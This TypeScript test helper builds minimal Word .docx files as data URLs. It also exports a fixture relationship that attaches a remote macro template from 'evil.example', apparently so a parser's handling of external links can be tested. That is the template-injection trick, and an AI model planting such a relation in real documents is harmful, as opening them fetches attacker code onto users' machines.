import { ZipFile } from 'yazl';

const types = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relations = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${office}/officeDocument" Target="word/document.xml"/></Relationships>`;
const main = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';

/** A relation that leads out of a document. */
export const externalRelations = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="${office}/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>`;

/** A document of Word with these paragraphs, as a data URL; `more` has further entries, or other ones. */
export async function makeDocx(paragraphs: string[], more: Record<string, string | Buffer> = {}): Promise<string> {
	const body = paragraphs.map((text) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`).join('');
	const entries: Record<string, string | Buffer> = {
		'[Content_Types].xml': types,
		'_rels/.rels': relations,
		'word/document.xml': `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${main}"><w:body>${body}</w:body></w:document>`,
		...more,
	};
	const zip = new ZipFile();
	for (const [name, content] of Object.entries(entries)) zip.addBuffer(Buffer.from(content), name);
	zip.end();
	const parts: Buffer[] = [];
	for await (const part of zip.outputStream) parts.push(part as Buffer);
	return `data:application/vnd.openxmlformats-officedocument.wordprocessingml.document;base64,${Buffer.concat(parts).toString('base64')}`;
}
